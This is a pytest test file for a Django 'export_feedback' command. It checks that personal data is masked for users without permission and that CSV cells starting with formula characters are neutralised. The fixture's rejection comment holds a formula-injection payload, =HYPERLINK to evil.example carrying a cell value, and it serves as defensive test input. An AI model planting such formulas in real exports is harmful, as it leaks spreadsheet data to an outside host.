"""``manage.py export_feedback``: personal data in clear only for someone who may see it, and CSV
cells that a spreadsheet would run as formulas neutralised."""

from __future__ import annotations

import csv
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from approvals.services import action_approve, action_reject, action_route, payload_sha256
from tests.factories import ProposedActionFactory, user_in_role

pytestmark = pytest.mark.django_db

PAYLOAD = {
    "to": "ada.lovelace@example.com",
    "subject": "Hello",
    "body": "Hi Ada",
    "phone": "+44 20 7946 0123",
}


@pytest.fixture
def decided():
    approver = user_in_role("SDR managers", username="sofia")
    approved = action_route(action_id=ProposedActionFactory(payload=dict(PAYLOAD)).pk)
    action_approve(action_id=approved.pk, user=approver, seen_payload_sha256=payload_sha256(approved.payload))
    rejected = action_route(action_id=ProposedActionFactory(payload=dict(PAYLOAD)).pk)
    action_reject(
        action_id=rejected.pk,
        user=approver,
        reason_code="wrong_action",
        comment='=HYPERLINK("http://evil.example/?"&A1) wrote to ada.lovelace@example.com',
    )
    return approved, rejected


def _export(tmp_path, *args):
    path = tmp_path / "feedback.out"
    call_command("export_feedback", str(path), *args, stdout=StringIO())
    return path.read_text()


def _jsonl(tmp_path, *args):
    return [json.loads(line) for line in _export(tmp_path, *args).splitlines()]


def test_it_masks_personal_data_when_no_user_is_named(decided, tmp_path):
    text = _export(tmp_path)
    assert "ada.lovelace@example.com" not in text and "7946 0123" not in text
    example = _jsonl(tmp_path)[0]
    assert example["original_payload"]["to"] == "a***@e***.com"
    assert example["original_payload"]["phone"] == "+44 *** *** 123"
    assert example["original_payload"]["body"] == "Hi Ada"  # what was judged stays readable


def test_it_masks_personal_data_for_a_user_without_the_permission(decided, tmp_path):
    user_in_role("Auditors", username="audrey")
    text = _export(tmp_path, "--user", "audrey")
    assert "ada.lovelace@example.com" not in text and "7946 0123" not in text
    rejected = _jsonl(tmp_path, "--user", "audrey")[1]
    assert "ada.lovelace@example.com" not in rejected["comment"] and "a***@e***.com" in rejected["comment"]


def test_it_shows_personal_data_to_a_user_who_may_see_it(decided, tmp_path):
    examples = _jsonl(tmp_path, "--user", "sofia")
    assert examples[0]["original_payload"] == PAYLOAD
    assert "ada.lovelace@example.com" in examples[1]["comment"]


def test_it_names_an_unknown_user(tmp_path):
    with pytest.raises(CommandError, match="user: no active user 'nobody'"):
        call_command("export_feedback", str(tmp_path / "x.jsonl"), "--user", "nobody", stdout=StringIO())


def test_a_formula_in_a_csv_cell_is_neutralised(decided, tmp_path):
    path = tmp_path / "feedback.csv"
    call_command("export_feedback", str(path), "--format", "csv", "--user", "sofia", stdout=StringIO())
    rows = list(csv.DictReader(path.open(newline="")))
    assert rows[1]["comment"].startswith("'=HYPERLINK(")
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row.values() if cell)
    assert json.loads(rows[0]["original_payload"]) == PAYLOAD  # JSON cells still parse
